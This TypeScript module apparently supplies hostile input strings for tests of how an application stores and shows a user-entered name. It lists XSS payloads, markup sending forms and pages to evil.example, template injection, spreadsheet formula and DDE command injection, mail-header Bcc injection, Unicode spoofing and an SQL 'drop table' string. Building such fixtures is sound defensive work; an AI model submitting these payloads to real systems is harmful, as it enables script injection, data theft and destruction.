/** How each is found again, wherever it is shown. */
const markOf = (i: number): string => `zq${i}q`;

const fire = '__fired(1)';
/** What people who mean harm type where a name is asked for; `M` becomes the mark. */
const templates: readonly string[] = [
  // Markup, in every place where it could be read as such.
  `M<script>${fire}</script>`,
  `M</script><script data-zq>${fire}</script>`,
  `M"><img data-zq src=x onerror=${fire}>`,
  `M'><svg data-zq onload=${fire}>`,
  `M<svg/onload=${fire}>`,
  `M" autofocus onfocus="${fire}" x="`,
  `M' onmouseover='${fire}`,
  `M</textarea><script>${fire}</script>`,
  `M</title><svg onload=${fire}>`,
  `M--><script>${fire}</script><!--`,
  `M]]><script>${fire}</script>`,
  `M<iframe srcdoc="<script>parent.${fire}</script>">`,
  `M<details open ontoggle=${fire}>`,
  `M<a href="javascript:${fire}">x</a>`,
  `M<math><a xlink:href=javascript:${fire}>x`,
  `M<style>@import'//evil.example'</style>`,
  `M<base href=//evil.example/>`,
  `M<meta http-equiv=refresh content=0;url=//evil.example>`,
  `M<form action=//evil.example><input name=token>`,
  `M<link rel=stylesheet href=//evil.example/x.css>`,
  `M&lt;script&gt;${fire}&lt;/script&gt;`,
  `M&#60;script&#62;${fire}`,
  `M%3Cscript%3E${fire}`,
  `M\\x3cscript\\x3e${fire}`,
  `M\\u003cscript\\u003e${fire}`,
  // Addresses, and what a template or a spreadsheet would run.
  `javascript:${fire}//M`,
  `JaVaScRiPt:${fire}//M`,
  `data:text/html,<script>${fire}</script>M`,
  `//evil.example/M`,
  'M{{constructor.constructor("__fired(1)")()}}',
  'M{{firstName}}{{lastName}}',
  'M<%= 7*7 %>#{7*7}',
  'M`;__fired(1);`',
  `M';__fired(1);//`,
  `=zz("M")`,
  `=HYPERLINK("//evil.example","M")`,
  `=cmd|' /C calc'!M`,
  `+1+M`,
  `-1-M`,
  `@SUM(M)`,
  `＝1+M`,
  `＋1+M`,
  `－1-M`,
  `＠SUM(M)`,
  `\t=1+M`,
  `"=1+1",M`,
  `M","=1+1`,
  `M;=1+1`,
  // Headers of mail, ends of lines, ends of text.
  `M\r\nBcc: victim@evil.example`,
  `M\nBcc: victim@evil.example`,
  `M%0d%0aBcc: victim@evil.example`,
  `M\u2028Bcc: victim@evil.example`,
  `M <victim@evil.example>, other`,
  `M\r\n\r\n<script>${fire}</script>`,
  `M\nBEGIN:VEVENT\nATTENDEE:mailto:victim@evil.example`,
  `M\\nATTENDEE:mailto:victim@evil.example`,
  // What is shown as something else than it is.
  `M\u202egnp.exe`,
  `M\u200b\u200e\u2066hidden`,
  `M\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301`,
  `M👩‍👩‍👧‍👦🥋`,
  `M\u001b[31mred\u0007`,
  `M\u0000end`,
  `M\ufffe\uffff`,
  `M' or 1=1; drop table person; --`,
  `M${'W'.repeat(85)}`,
  `M${'Ж'.repeat(5000)}`,
];

export interface Hostile {
  mark: string;
  text: string;
  /** As it stands when it was taken: marks nobody sees are dropped, and blanks around. */
  stored: string;
}

const unseen = /[\u00ad\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff]/g;
export const hostileStrings: readonly Hostile[] = templates.map((template, i) => {
  const text = template.replaceAll('M', markOf(i));
  return { mark: markOf(i), text, stored: text.replace(unseen, '').trim() };
});
/** A few that between them try everything. */
export const fewHostile: readonly Hostile[] = [0, 2, 34, 49].map(i => hostileStrings[i] as Hostile);
